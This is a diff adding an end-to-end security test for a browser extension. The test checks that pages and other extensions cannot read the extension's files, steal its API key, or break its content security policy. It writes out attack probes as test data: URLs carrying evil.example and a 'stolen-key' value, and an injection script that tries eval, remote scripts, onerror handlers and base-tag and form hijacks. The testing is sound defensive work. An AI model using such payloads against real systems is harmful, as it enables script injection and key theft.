@@ -1,0 +1,277 @@
+import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { startTrap } from '../site/trap.ts';
+import type { TestBrowser, TestPage } from './browsers/browser.ts';
+import type { ChromiumBrowser } from './browsers/chromium.ts';
+import type { ChromiumPage } from './browsers/chromium-page.ts';
+import type { FirefoxBrowser } from './browsers/firefox.ts';
+import { BUILDS, companionIn, launch, SITE } from './companion.ts';
+import { API } from './content-world.ts';
+import { expect, test } from './fixture.ts';
+import { problemTried } from './oracle.ts';
+import { openKnown } from './panel-view.ts';
+import { startPlainServer } from './plain-server.ts';
+
+const EVIL = 'https://evil.example';
+const STOLEN = 'stolen-key';
+
+/** Places that no key may go to, should every check of ours fail. */
+const PLAIN = ['evil.example', 'localhost.evil.example', '127.0.0.1.evil.example', '0.0.0.0', '192.168.1.5'];
+
+test('what is ours is closed to pages and other extensions, and its own policy holds', async ({
+  site,
+  player,
+  realBrowser,
+}) => {
+  test.slow();
+  const trap = await startTrap();
+  const plain = await startPlainServer();
+  const other = await otherExtension();
+  const hosts = {
+    'remote.example': trap.port,
+    ...Object.fromEntries(PLAIN.map((host) => [host, plain.port])),
+  };
+  const browser = await launch(realBrowser, { sitePort: site.port, hosts, besides: [other] });
+  try {
+    const companion = await companionIn(browser, site);
+    const { options } = companion;
+    await companion.connect(player.name);
+    const id = problemTried(site, player.id, { least: 3, most: 9, solved: true });
+    const page = await openKnown(companion, site, player, id);
+    const popup = await companion.openPopup();
+    await popup.waitFor('document.querySelector(".ResultList")');
+    await popup.close();
+
+    await test.step('S32 no policy is violated by all of that', async () => {
+      const said = (await browser.settledConsoleText()).filter((line) => OF_POLICY.test(line));
+      expect(said).toEqual([]);
+    });
+
+    await test.step('S31 what stands in the address of an own page is not heeded', async () => {
+      const before = site.log.mark();
+      const crafted = await browser.newPage();
+      for (const file of ['options.html', 'popup.html']) {
+        await crafted.goto(
+          `${browser.extensionOrigin}/${file}?base=${EVIL}&key=${STOLEN}&site=${EVIL}#base=${EVIL}&key=${STOLEN}`,
+        );
+        await crafted.waitFor('document.querySelector(".OptionsPage, .Popup")');
+        const shown = await crafted.evaluate<string>(
+          'document.documentElement.outerHTML + [...document.querySelectorAll("input")].map(({ value }) => value)',
+        );
+        expect(shown).not.toContain('evil');
+        expect(shown).not.toContain('stolen');
+      }
+      await crafted.close();
+      await options.reload();
+      await options.waitFor('document.querySelector(".AccountCard")');
+      expect(await options.evaluate('document.querySelector(".SiteSection-address code").textContent')).toBe(
+        SITE,
+      );
+      expect(site.log.since(before).filter(({ headers }) => headers['x-api-key'] === STOLEN)).toEqual([]);
+    });
+
+    await test.step('S30 no packaged file can be read or framed by a page', async () => {
+      const files = await packagedFiles(realBrowser);
+      expect(files.length).toBeGreaterThan(10);
+      const reached = await page.evaluate(probe(files.map((file) => `${browser.extensionOrigin}/${file}`)));
+      expect(reached).toEqual([]);
+      const framed = await framesOf(browser, page);
+      expect(framed.filter((address) => address.includes('extension://'))).toEqual([]);
+    });
+
+    await test.step('S21 another extension finds nobody who listens', async () => {
+      const asking = await browser.waitForPage('/ask.html');
+      const ourId = realBrowser === 'firefox' ? GECKO_ID : new URL(browser.extensionOrigin).host;
+      expect(await asking.evaluate(approach(ourId))).toEqual(['nobody', 'nobody', 'disconnected']);
+      await options.reload();
+      await options.waitFor('document.querySelector(".AccountCard")');
+    });
+
+    await test.step('S4 plain HTTP to another machine is refused by the browser itself', async () => {
+      const ways = PLAIN.map((host) => `http://${host}/api/v2/user/me`);
+      expect(await options.evaluate(fetchAll(ways))).toEqual(ways.map(() => 'refused'));
+      expect(await inBackground(browser, options, fetchAll(ways))).toEqual(ways.map(() => 'refused'));
+      expect(plain.requests).toEqual([]);
+    });
+
+    await test.step('S32 code from text and from elsewhere is refused to pages and to the worker', async () => {
+      for (const file of ['options.html', 'popup.html']) {
+        const own = await browser.newPage();
+        await own.goto(`${browser.extensionOrigin}/${file}`);
+        const { done, violated } = await own.evaluate<{ done: string[]; violated: string[] }>(INJECT);
+        expect(done, file).toEqual([]);
+        expect(new Set(violated), file).toEqual(new Set(DIRECTIVES));
+        expect(await own.url()).toBe(`${browser.extensionOrigin}/${file}`);
+        await own.close();
+      }
+      expect(await inBackground(browser, options, CODE_IN_WORKER)).toEqual([]);
+      expect(trap.log.all()).toEqual([]);
+    });
+  } finally {
+    await browser.close();
+    await Promise.all([trap.close(), plain.close(), rm(other, { recursive: true })]);
+  }
+});
+
+const GECKO_ID = 'companion-for-goproblems@example.org';
+const OF_POLICY = /content.security.policy|securitypolicyviolation|violates the following/i;
+
+/** A folder with a small extension that opens a page of its own once it is installed. */
+async function otherExtension(): Promise<string> {
+  const folder = await mkdtemp(join(tmpdir(), 'other-extension-'));
+  const manifest = {
+    manifest_version: 3,
+    name: 'Another extension',
+    version: '1',
+    background: { service_worker: 'open.js', scripts: ['open.js'] },
+    browser_specific_settings: { gecko: { id: 'another@example.org' } },
+  };
+  await writeFile(join(folder, 'manifest.json'), JSON.stringify(manifest));
+  await writeFile(
+    join(folder, 'open.js'),
+    `${API}.runtime.onInstalled.addListener(() => ${API}.tabs.create({ url: 'ask.html', active: false }));`,
+  );
+  await writeFile(join(folder, 'ask.html'), '<!doctype html><title>Asks</title>');
+  return folder;
+}
+
+const approach = (id: string) => `(async () => {
+  const { runtime } = ${API};
+  const ask = (message) => runtime.sendMessage('${id}', message).then(
+    (reply) => reply === undefined ? 'nobody' : JSON.stringify(reply),
+    () => 'nobody',
+  );
+  const port = runtime.connect('${id}');
+  const left = new Promise((resolve) => {
+    port.onMessage.addListener((message) => resolve(JSON.stringify(message)));
+    port.onDisconnect.addListener(() => resolve('disconnected'));
+  });
+  return [await ask({ ask: 'forgetKey', with: null }), await ask({ ask: 'getKey', with: null }), await left];
+})()`;
+
+async function packagedFiles(name: TestBrowser['name']): Promise<string[]> {
+  const entries = await readdir(BUILDS[name], { recursive: true, withFileTypes: true });
+  return entries
+    .filter((entry) => entry.isFile())
+    .map((entry) => join(entry.parentPath, entry.name).slice(BUILDS[name].length + 1));
+}
+
+/** Every file that a page of the site gets hold of by any means; frames are judged from outside. */
+const probe = (addresses: string[]) => `(async () => {
+  const load = (name, field, address, more) => new Promise((resolve) => {
+    const element = Object.assign(document.createElement(name), more, { [field]: address });
+    element.onload = () => resolve(true);
+    element.onerror = () => resolve(false);
+    document.head.append(element);
+  });
+  const reached = [];
+  for (const address of ${JSON.stringify(addresses)}) {
+    const ways = await Promise.all([
+      fetch(address).then(() => true, () => false),
+      fetch(address, { mode: 'no-cors' }).then(() => true, () => false),
+      load('img', 'src', address),
+      load('link', 'href', address, { rel: 'stylesheet' }),
+      load('script', 'src', address),
+    ]);
+    if (ways.includes(true)) reached.push([address, ways]);
+    if (!address.endsWith('.html')) continue;
+    const frame = Object.assign(document.createElement('iframe'), { src: address });
+    document.body.append(frame);
+    await Promise.race([
+      new Promise((resolve) => { frame.onload = resolve; frame.onerror = resolve; }),
+      new Promise((resolve) => setTimeout(resolve, 3_000)),
+    ]);
+  }
+  return reached;
+})()`;
+
+/** Where the frames of a page really are, as the browser itself has it. */
+async function framesOf(browser: TestBrowser, page: TestPage): Promise<string[]> {
+  if (browser.name === 'chromium') {
+    return (page as ChromiumPage).page.frames().map((frame) => frame.url());
+  }
+  return (browser as FirefoxBrowser).evaluateInBrowser<string[]>(
+    `[...gBrowser.tabs].flatMap(({ linkedBrowser }) =>
+      linkedBrowser.browsingContext.children.map((frame) => frame.currentWindowGlobal?.documentURI.spec ?? ''))`,
+  );
+}
+
+/** In the service worker, or in the event page that Firefox has instead. */
+function inBackground<T>(browser: TestBrowser, options: TestPage, expression: string): Promise<T> {
+  if (browser.name === 'chromium') return (browser as ChromiumBrowser).evaluateInWorker<T>(expression);
+  return options.evaluate<T>(`(async () => {
+    const globalThis = await browser.runtime.getBackgroundPage();
+    const { fetch, document, Function, setTimeout } = globalThis;
+    return ${expression};
+  })()`);
+}
+
+const fetchAll = (addresses: string[]) => `Promise.all(${JSON.stringify(addresses)}.map((address) =>
+  fetch(address, { mode: 'no-cors' }).then(() => 'sent', () => 'refused')))`;
+
+/** What worked of code made from text or brought from elsewhere. */
+const CODE_IN_WORKER = `(async () => {
+  const done = [];
+  const attempt = async (name, act) => { try { await act(); done.push(name); } catch {} };
+  await attempt('eval', () => globalThis.eval('1'));
+  await attempt('Function', () => new Function('return 1')());
+  if (globalThis.importScripts) await attempt('importScripts', () => importScripts('https://remote.example/x.js'));
+  else await attempt('script', () => new Promise((resolve, reject) => {
+    const script = Object.assign(document.createElement('script'), { src: 'https://remote.example/x.js' });
+    script.onload = resolve;
+    script.onerror = reject;
+    document.head.append(script);
+  }));
+  return done;
+})()`;
+
+const DIRECTIVES = [
+  'script-src',
+  'script-src-elem',
+  'script-src-attr',
+  'style-src-elem',
+  'img-src',
+  'connect-src',
+  'base-uri',
+  'form-action',
+  'frame-src',
+  'font-src',
+];
+
+/** Tries to run and to load in one of our pages what no page of ours ever should, and what the browser said to it. */
+const INJECT = `(async () => {
+  const done = [], violated = [];
+  addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.push(effectiveDirective));
+  globalThis.ran = (what) => done.push(what);
+  const attempt = async (name, act) => { try { await act(); done.push(name); } catch {} };
+  await attempt('eval', () => globalThis.eval('ran("eval")'));
+  await attempt('Function', () => new Function('ran("Function")')());
+  const put = (name, more) => new Promise((resolve) => {
+    const element = Object.assign(document.createElement(name), more);
+    element.onload = () => resolve(done.push(name + ' loaded'));
+    element.onerror = resolve;
+    document.body.append(element);
+    setTimeout(resolve, 500);
+  });
+  await put('script', { textContent: 'ran("inline")' });
+  await put('script', { src: 'https://remote.example/x.js' });
+  await put('img', { src: 'https://remote.example/x.png' });
+  await put('link', { rel: 'stylesheet', href: 'https://remote.example/x.css' });
+  const holder = document.createElement('div');
+  holder.innerHTML = '<img src="data:image/png;base64,x" onerror="ran(1)"><svg onload="ran(2)"></svg>';
+  document.body.append(holder);
+  await attempt('plain', () => fetch('http://remote.example/'));
+  await attempt('font', () => new FontFace('x', 'url(https://remote.example/x.woff)').load());
+  const before = document.baseURI;
+  await put('base', { href: 'https://remote.example/' });
+  if (document.baseURI !== before) done.push('base');
+  const form = Object.assign(document.createElement('form'), { action: 'https://remote.example/', method: 'post' });
+  document.body.append(form);
+  // Firefox throws, Chromium does nothing.
+  try { form.submit(); } catch {}
+  const frame = Object.assign(document.createElement('iframe'), { src: 'https://remote.example/' });
+  document.body.append(frame);
+  await new Promise((resolve) => setTimeout(resolve, 500));
+  return { done: done.filter((what) => what !== 'iframe loaded'), violated };
+})()`;
